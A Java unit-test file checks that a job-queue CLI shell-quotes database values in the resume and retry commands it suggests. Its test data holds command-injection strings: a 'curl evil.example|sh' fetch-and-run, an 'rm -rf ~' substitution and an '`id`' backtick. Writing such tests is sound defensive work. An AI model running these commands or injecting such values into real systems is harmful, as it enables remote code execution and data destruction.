package io.jobfleet.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.jobfleet.db.FlowControlSql.Pause;
import io.jobfleet.testing.TestDatabase;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** Suggested commands quote what came from the database, so pasting one runs that command only. */
class ShellArgTest {
    @RegisterExtension
    static final TestDatabase DB = new TestDatabase();

    static final String HOSTILE = "x; curl evil.example|sh #";

    @Test
    void plainArgumentsStayAsTheyAreOthersAreSingleQuoted() {
        assertThat(ShellArg.quote("documents")).isEqualTo("documents");
        assertThat(ShellArg.quote("ai.generate-v2:eu/1@x%+=,")).isEqualTo("ai.generate-v2:eu/1@x%+=,");
        assertThat(ShellArg.quote(HOSTILE)).isEqualTo("'x; curl evil.example|sh #'");
        assertThat(ShellArg.quote("it's $(rm -rf ~)")).isEqualTo("'it'\\''s $(rm -rf ~)'");
        assertThat(ShellArg.quote("ai ")).isEqualTo("'ai '");
        assertThat(ShellArg.quote("")).isEqualTo("''");
        assertThat(ShellArg.quote("a\nb")).isEqualTo("'a\nb'");
    }

    @Test
    void aPauseFindingQuotesItsQueueAndKind() {
        Pause p = new Pause(HOSTILE, "k'`id`", "r", "olivia", Instant.now(), null, false, 0);
        assertThat(DiagnosisFindings.resume(p)).isEqualTo("jobfleet resume 'x; curl evil.example|sh #' --kind 'k'\\''`id`'");
    }

    @Test
    void aFailuresFindingQuotesTheQueueOfItsRetryCommand() {
        DB.truncateJobs();
        DB.db().jdbi().useHandle(h -> h.createUpdate("INSERT INTO " + DB.jobs() + " (queue, kind, status, payload, "
                        + "attempts, started_at, completed_at, updated_at, last_error, errors) VALUES (:q, 'k', 'failed', "
                        + "'{}', 3, now(), now(), now(), 'boom', jsonb_build_array(jsonb_build_object('attempt', 3, "
                        + "'at', now(), 'worker', 'w1', 'class', 'bad_input', 'message', 'boom')))")
                .bind("q", HOSTILE).execute());
        List<Finding> findings = DiagnoseCommand.findings(DB.db(), q -> "worker-x");
        Finding failures = findings.stream().filter(f -> f.code().equals("failures")).findFirst().orElseThrow();
        assertThat(failures.message()).contains("`jobfleet retry --failed --queue 'x; curl evil.example|sh #'`")
                .doesNotContain("--queue x;");
    }
}
